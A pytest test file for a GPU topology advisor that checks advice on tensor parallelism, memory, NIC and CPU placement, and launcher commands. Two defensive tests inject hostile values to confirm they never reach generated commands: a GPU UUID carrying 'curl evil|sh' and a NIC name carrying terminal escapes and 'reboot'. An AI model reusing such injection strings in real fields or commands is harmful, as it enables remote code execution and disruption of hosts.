"""What is said: each line with a fact, no GPU that is not there, and the sentences that matter by name."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime
from itertools import permutations
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpumond.model.reading import NOT_SUPPORTED, Unreadable, UnreadableReason, Value
from gpumond.model.topology import P2pStatus, PathLevel, SilentGpu, Vendor
from gpumond.model.topology_text import TopologyText, Way
from gpumond.parsers.topology_text import parse_topology_text
from gpumond.simulate.faults import parse_fault
from gpumond.simulate.scenario import load_scenario, with_faults
from gpumond.simulate.snapshot import render_snapshot
from gpumond.topology.advise.advice import advise
from gpumond.topology.advise.host import host_of_snapshot, host_of_text
from gpumond.topology.advise.lines import Fact, Line, Source, Topic, parameters_told, span
from gpumond.topology.advise.memory import Dtype, Job, Task

CASES = Path(__file__).parents[3] / "data" / "topology" / "cases"
TRAIN_7B = Job(7 * 10**9, Dtype.BF16, Task.TRAIN)
SERVE_70B = Job(70 * 10**9, Dtype.BF16, Task.SERVE)


def snapshot_of(name, *faults):
    scenario = with_faults(load_scenario(name), [parse_fault(fault) for fault in faults])
    return render_snapshot(scenario, taken_at=datetime(2026, 11, 29, tzinfo=UTC))


def said(host, topic, job=None):
    return [line.advice for line in advise(host, job).lines if line.topic is topic]


def facts_of(host, topic, job=None):
    return [fact.text for line in advise(host, job).lines if line.topic is topic for fact in line.facts]


def named(name, *faults):
    return host_of_snapshot(snapshot_of(name, *faults))


def pasted(case):
    return host_of_text(parse_topology_text(next(CASES.glob(f"{case}-*.txt")).read_text()))


# --- no line without a fact --------------------------------------------------------------------------------------------


def test_there_is_no_line_without_a_fact():
    with pytest.raises(TypeError, match="because"):
        Line(Topic.NIC, "use mlx5_0")
    for empty in ("", "  "):
        with pytest.raises(ValueError, match="fact"):
            Fact(Source.SNAPSHOT, empty)
        with pytest.raises(ValueError, match="advice"):
            Line(Topic.NIC, empty, Fact(Source.SNAPSHOT, "x"))


# --- what must hold for any host ---------------------------------------------------------------------------------------

HOSTS = (
    "dgx1-v100-cube-mesh", "gh200-1", "h200-2-vm", "hgx-a100-8", "hgx-b200-8", "l40s-8-pcie", "rtx4080-10-no-p2p",
)  # fmt: skip
JOBS = st.none() | st.builds(
    Job, st.integers(1, 10**13), st.sampled_from([Dtype.BF16, Dtype.FP32]), st.sampled_from(Task)
)
UNREAD = st.sampled_from([NOT_SUPPORTED, Unreadable(UnreadableReason.TIMEOUT)])


@st.composite
def snapshots(draw):
    """One of our hosts with GPUs gone, facts unreadable and answers changed."""
    snapshot = snapshot_of(draw(st.sampled_from(HOSTS)))
    keep = draw(st.lists(st.sampled_from(snapshot.gpus), unique_by=lambda gpu: gpu.uuid))
    fields = ("name", "memory_total_bytes", "numa_node", "cpu_affinity", "nvlinks", "mig_mode")
    gpus = []
    for gpu in keep:
        broken = draw(st.lists(st.sampled_from(fields), max_size=2))
        gpus.append(replace(gpu, **{field: draw(UNREAD) for field in broken}))
    uuids = {gpu.uuid for gpu in gpus}
    pairs = [pair for pair in snapshot.pairs if {pair.gpu, pair.peer} <= uuids]
    pairs = [
        replace(pair, nvlinks=draw(UNREAD)) if draw(st.integers(0, 9)) == 0 else pair
        for pair in pairs
        if draw(st.integers(0, 19)) > 0
    ]
    return replace(snapshot, gpus=tuple(gpus), pairs=tuple(pairs))


@st.composite
def texts(draw):
    names = [f"GPU{number}" for number in draw(st.lists(st.integers(0, 12), max_size=6, unique=True))]
    labels = st.sampled_from(["NV1", "NV18", "XGMI", "PIX", "PHB", "SYS", "PCIE", "N/A", "NV", "?"])
    links = {Way(*way): draw(labels) for way in permutations(names, 2) if draw(st.integers(0, 9)) > 0}
    tool = draw(st.sampled_from(["nvidia-smi topo -m", "amd-smi topology", ""]))
    cpus = {name: draw(st.sampled_from(["0-7", None, "0-5:2"])) for name in names}
    return TopologyText(tool, tuple(names), links=links, cpu_affinity=cpus)


@settings(max_examples=120, deadline=None)
@given(snapshots().map(host_of_snapshot) | texts().map(host_of_text), JOBS)
def test_advice_names_only_gpus_that_are_there_and_always_has_a_fact(host, job):
    advice = advise(host, job)
    there = {gpu.name for gpu in host.gpus}
    uuids = {gpu.uuid for gpu in host.gpus}
    assert sorted(name for group in advice.groups for name in group.gpus) == sorted(there)
    for line in advice.lines:
        assert all(fact.text.strip() for fact in line.facts)
        assert set(re.findall(r"\bGPU\d+\b", line.advice)) <= there
        assert set(re.findall(r"GPU-[0-9a-f-]{20,}", line.advice)) <= uuids
    if advice.plan is not None:
        assert set(advice.plan.gpus) <= there
        assert len(advice.plan.gpus) == len(set(advice.plan.gpus))
        assert advice.plan.bytes_per_gpu <= advice.plan.usable_bytes * (1 + 1e-9) or advice.plan.hosts > 1


# --- what is to be settled first ---------------------------------------------------------------------------------------


def test_a_link_that_is_down_is_named():
    assert said(named("hgx-h100-8", "link_down,gpu=3,link=7"), Topic.CHECK_FIRST) == [
        "Find the NVLink that is down on GPU3."
    ]
    assert said(pasted("15"), Topic.CHECK_FIRST) == ["Find the NVLink that is down on GPU2-GPU3."]


@pytest.mark.parametrize("name", ["hgx-h100-8", "dgx1-v100-cube-mesh", "rtx5090-2-no-p2p", "gh200-1"])
def test_nothing_is_wrong_with_a_healthy_host(name):
    assert said(named(name), Topic.CHECK_FIRST) == []


@pytest.mark.parametrize("case", ["01", "05", "09", "13", "18"])
def test_nothing_is_wrong_with_how_a_board_is_wired(case):
    assert said(pasted(case), Topic.CHECK_FIRST) == []


def test_bridges_of_other_sizes_are_no_link_that_is_down():
    text = "\tGPU0\tGPU1\tGPU2\tGPU3\nGPU0\tX\tNV12\tSYS\tSYS\nGPU1\tNV12\tX\tSYS\tSYS\n"
    text += "GPU2\tSYS\tSYS\tX\tNV4\nGPU3\tSYS\tSYS\tNV4\tX\n"
    host = host_of_text(parse_topology_text(text))
    assert [group.gpus for group in advise(host).groups] == [("GPU0", "GPU1"), ("GPU2", "GPU3")]
    assert said(host, Topic.CHECK_FIRST) == []


def test_a_fabric_that_is_not_up():
    host = named("hgx-h100-8", "fabric_in_progress")
    assert said(host, Topic.CHECK_FIRST) == ["Repair the NVLink fabric: see the fabric manager."]
    assert len(advise(host).groups) == 8


def test_silent_gpus_and_gpus_in_slices():
    snapshot = snapshot_of("hgx-h100-8")
    lost = SilentGpu(None, snapshot.gpus[7].pci_bus_id, Unreadable(UnreadableReason.GPU_LOST))
    sliced = replace(snapshot.gpus[0], mig_mode=Value(True))
    host = host_of_snapshot(replace(snapshot, gpus=(sliced, *snapshot.gpus[1:7]), silent_gpus=(lost,)))
    assert said(host, Topic.CHECK_FIRST) == [
        "Get the silent GPUs back, or plan without them.",
        "Use GPU0 for small jobs only: slices have no P2P.",
    ]
    assert facts_of(host, Topic.CHECK_FIRST)[0] == "1 of 8 GPUs do not answer"


@pytest.mark.parametrize(("iommu", "is_suspect"), [("identity", False), ("off", False), ("DMA-FQ", True)])
def test_p2p_over_pcie_is_a_claim(iommu, is_suspect):
    snapshot = snapshot_of("l40s-8-pcie")
    host = host_of_snapshot(replace(snapshot, host=replace(snapshot.host, iommu=Value(iommu))))
    (line,) = said(host, Topic.CHECK_FIRST)
    assert line.startswith("Run a sweep before you rely on P2P.")
    assert ("IOMMU" in line) is is_suspect


@pytest.mark.parametrize(
    ("name", "dtype", "is_missing"),
    [
        ("dgx1-v100-cube-mesh", Dtype.BF16, True),
        ("dgx1-v100-cube-mesh", Dtype.FP16, False),
        ("hgx-a100-8", Dtype.FP8, True),
        ("hgx-a100-8", Dtype.BF16, False),
        ("hgx-h100-8", Dtype.FP8, False),
        ("l40s-8-pcie", Dtype.FP8, False),
        ("rtx4090-4-no-p2p", Dtype.FP8, False),
    ],
)
def test_a_data_type_that_these_gpus_do_not_compute(name, dtype, is_missing):
    lines = said(named(name), Topic.CHECK_FIRST, Job(7 * 10**9, dtype, Task.SERVE))
    assert (f"Choose another data type than {dtype}." in lines) is is_missing


# --- parallelism -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "lines"),
    [
        (named("hgx-h100-8"), ["TP8 inside GPU0-GPU7."]),
        (named("rtx5090-2-no-p2p"), ["None: it would go through host memory (NCCL's SHM transport)."]),
        (named("gh200-1"), ["A single GPU: no parallelism inside this host."]),
        (pasted("07"), ["TP4 inside GPU0-GPU3 if P2P is granted (`nvidia-smi topo -p2p r` tells), else pipeline."]),
        (pasted("08"), ["None: no two GPUs are joined below a CPU."]),
        (pasted("13"), ["TP4 inside GPU0, GPU2-GPU3, GPU7.", "TP4 inside GPU1, GPU4-GPU6."]),
        (pasted("14"), ["TP4 inside GPU0-GPU4 (1 of them spare)."]),
    ],
)  # fmt: skip
def test_tensor_parallel(host, lines):
    assert said(host, Topic.TENSOR_PARALLEL) == lines


def test_different_products():
    snapshot = snapshot_of("hgx-h100-8")
    gpus = tuple(replace(gpu, name=Value(f"GPU of kind {at}")) for at, gpu in enumerate(snapshot.gpus))
    assert said(host_of_snapshot(replace(snapshot, gpus=gpus)), Topic.TENSOR_PARALLEL) == [
        "None: ranks that split a model evenly need GPUs of one product."
    ]


def test_gradients_are_accumulated_where_they_cross_pcie():
    assert len(said(named("l40s-8-pcie"), Topic.GRADIENT_ACCUMULATION, TRAIN_7B)) == 2
    facts = facts_of(named("l40s-8-pcie"), Topic.GRADIENT_ACCUMULATION, TRAIN_7B)
    assert "2 x 7/8 x gradients = 24.5 GB a GPU, over 31.5 GB/s" in facts
    for host, job in (
        (named("hgx-h100-8"), TRAIN_7B),
        (named("dgx1-v100-cube-mesh"), TRAIN_7B),  # its NVLinks form a ring over all eight
        (named("l40s-8-pcie"), SERVE_70B),
        (named("gh200-1"), TRAIN_7B),
    ):
        assert said(host, Topic.GRADIENT_ACCUMULATION, job) == []


def test_the_formula_is_printed():
    (line,) = said(named("hgx-h100-8"), Topic.MEMORY, TRAIN_7B)
    assert line == "38.5 GB of 68.4 GB usable on each GPU."
    assert facts_of(named("hgx-h100-8"), Topic.MEMORY, TRAIN_7B)[0] == (
        "weights 2 + gradients 2 + Adam 12 (fp32 weights and two states) bytes x 7B parameters = 112.0 GB, shared out as"
        " the strategy says"
    )


def test_a_text_has_no_memory_so_there_is_no_plan():
    advice = advise(pasted("01"), SERVE_70B)
    assert advice.plan is None
    assert said(pasted("01"), Topic.STRATEGY, SERVE_70B) == []
    assert len(said(pasted("01"), Topic.MEMORY, SERVE_70B)) == 1


def test_nothing_is_placed_on_the_wrong_gpus():
    job = Job(405 * 10**9, Dtype.BF16, Task.TRAIN)
    topics = {line.topic for line in advise(named("rtx5090-2-no-p2p"), job).lines}
    assert topics == {Topic.TENSOR_PARALLEL, Topic.ACROSS, Topic.MEMORY, Topic.STRATEGY}
    assert said(named("rtx5090-2-no-p2p"), Topic.STRATEGY, job) == [
        "Not on GPUs like these: it takes 238 of them in 238 pipeline stages."
    ]


def test_spare_gpus_are_named():
    assert said(named("rtx4080-10-no-p2p"), Topic.STRATEGY, TRAIN_7B) == [
        "Train one copy, PP9.",
        "Spare: GPU9.",
    ]


# --- placement ---------------------------------------------------------------------------------------------------------


def test_each_copy_sees_its_own_gpus():
    lines = said(named("hgx-h100-8"), Topic.VISIBLE_DEVICES, SERVE_70B)
    uuids = [gpu.uuid for gpu in snapshot_of("hgx-h100-8").gpus]
    assert lines == [
        f"GPU0-GPU3: CUDA_VISIBLE_DEVICES={','.join(uuids[:4])}",
        f"GPU4-GPU7: CUDA_VISIBLE_DEVICES={','.join(uuids[4:])}",
    ]


def test_without_uuids_the_order_is_fixed_as_well():
    assert (
        said(pasted("06"), Topic.VISIBLE_DEVICES)[0]
        == "GPU0: CUDA_DEVICE_ORDER=PCI_BUS_ID CUDA_VISIBLE_DEVICES=0"
    )


def test_amd():
    lines = said(pasted("13"), Topic.VISIBLE_DEVICES)
    assert lines[0].endswith("ROCR_VISIBLE_DEVICES=0,2,3,7 (or HIP_VISIBLE_DEVICES=0,2,3,7, not both)")
    snapshot = replace(snapshot_of("rtx5090-2-no-p2p"), vendor=Vendor.AMD)
    gpus = tuple(replace(gpu, uuid=f"GPU-00000000000000{at:02d}") for at, gpu in enumerate(snapshot.gpus))
    host = host_of_snapshot(replace(snapshot, gpus=gpus, pairs=()))
    assert said(host, Topic.VISIBLE_DEVICES)[1] == "GPU1: ROCR_VISIBLE_DEVICES=GPU-0000000000000001, HIP_VISIBLE_DEVICES unset"  # fmt: skip


def test_a_hostile_uuid_never_gets_into_a_command():
    snapshot = snapshot_of("gh200-1")
    evil = replace(snapshot.gpus[0], uuid="GPU-1;curl evil|sh")
    host = host_of_snapshot(replace(snapshot, gpus=(evil,)))
    assert said(host, Topic.VISIBLE_DEVICES) == ["GPU0: CUDA_DEVICE_ORDER=PCI_BUS_ID CUDA_VISIBLE_DEVICES=0"]


def test_cores_are_shared_among_those_that_are_near():
    host = named("hgx-h100-8")
    assert said(host, Topic.CORES)[3] == "GPU3: data loaders on CPUs 24-31,88-95 (taskset -c 24-31,88-95)."
    assert said(host, Topic.THREADS) == ["At most OMP_NUM_THREADS=8 a process."]


def test_a_list_that_was_cut_pins_nothing():
    text = next(CASES.glob("01-*.txt")).read_text().replace("0-31,64-95  ", "0,2,4,6,8,10")
    host = host_of_text(parse_topology_text(text))
    assert said(host, Topic.CORES) == []
    assert said(host, Topic.THREADS) == []


def test_each_gpu_gets_the_nic_beside_it():
    lines = said(named("hgx-h100-8"), Topic.NIC)
    assert lines[:8] == [f"GPU{number}: mlx5_{number}." for number in range(8)]
    assert lines[8] == "NCCL_IB_HCA==" + ",".join(f"mlx5_{number}" for number in range(8))


def test_a_port_that_is_down_is_not_used():
    lines = said(named("hgx-h100-8", "nic_down,nic=mlx5_2"), Topic.NIC)
    assert lines[2] == "GPU2: mlx5_0."
    assert not any("mlx5_2" in line for line in lines)


def test_gpus_spread_over_nics_that_are_equally_near():
    snapshot = snapshot_of("hgx-h100-8")
    everywhere = {gpu.uuid: PathLevel.PXB for gpu in snapshot.gpus}
    nics = tuple(replace(nic, levels=everywhere) for nic in snapshot.nics[:2])
    lines = said(host_of_snapshot(replace(snapshot, nics=nics)), Topic.NIC)
    assert lines[:8] == [f"GPU{number}: mlx5_{number % 2}." for number in range(8)]


def test_a_nic_across_the_sockets_is_nobody_s():
    snapshot = snapshot_of("hgx-h100-8")
    only = host_of_snapshot(replace(snapshot, nics=snapshot.nics[:1]))
    assert said(only, Topic.NIC) == [f"GPU{number}: mlx5_0." for number in range(4)]


def test_a_hostile_nic_name_is_shown_harmlessly_and_kept_out_of_commands():
    snapshot = snapshot_of("hgx-h100-8")
    evil = replace(snapshot.nics[0], name="mlx5;\x1b[2J\nreboot")
    lines = said(host_of_snapshot(replace(snapshot, nics=(evil, *snapshot.nics[1:]))), Topic.NIC)
    assert lines[0] == "GPU0: mlx5;?[2J?reboot."
    assert not any(line.startswith("NCCL_IB_HCA") for line in lines)


@pytest.mark.parametrize(
    ("name", "job", "command"),
    [
        ("hgx-h100-8", None, "OMP_NUM_THREADS=8 torchrun --standalone --nproc-per-node=8 train.py"),
        ("hgx-h100-8", TRAIN_7B, "OMP_NUM_THREADS=8 torchrun --standalone --nproc-per-node=8 train.py"),
        (
            "rtx4080-10-no-p2p",
            TRAIN_7B,
            "OMP_NUM_THREADS=4 torchrun --standalone --nproc-per-node=9 train.py",
        ),
        ("l40s-8-pcie", SERVE_70B, "vllm serve MODEL --tensor-parallel-size 2 --pipeline-parallel-size 2"),
        (
            "gh200-1",
            TRAIN_7B,
            "OMP_NUM_THREADS=72 torchrun --nnodes=2 --node-rank=$RANK --rdzv-backend=c10d --rdzv-endpoint=$FIRST_HOST:29500 --nproc-per-node=1 train.py",
        ),
    ],
)
def test_launcher(name, job, command):
    assert said(named(name), Topic.LAUNCHER, job) == [command]


# --- words -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("names", "text"),
    [
        (["GPU0"], "GPU0"),
        (["GPU2", "GPU0", "GPU1"], "GPU0-GPU2"),
        (["GPU9", "GPU10", "GPU12"], "GPU9-GPU10, GPU12"),
        (["GPU0", "0000:18:00.0"], "GPU0, 0000:18:00.0"),
    ],
)
def test_spans(names, text):
    assert span(names) == text


@pytest.mark.parametrize(
    ("count", "text"), [(7 * 10**9, "7B"), (1_500_000_000, "1.5B"), (10**12, "1T"), (350, "350")]
)
def test_counts_of_parameters(count, text):
    assert parameters_told(count) == text


def test_p2p_in_one_direction_is_not_p2p():
    snapshot = snapshot_of("l40s-8-pcie")
    refused = dict.fromkeys(snapshot.pairs[0].p2p, Value(P2pStatus.CNS))
    host = host_of_snapshot(
        replace(snapshot, pairs=(replace(snapshot.pairs[0], p2p=refused), *snapshot.pairs[1:]))
    )
    assert [group.gpus for group in advise(host).groups][:2] == [("GPU0",), ("GPU1",)]
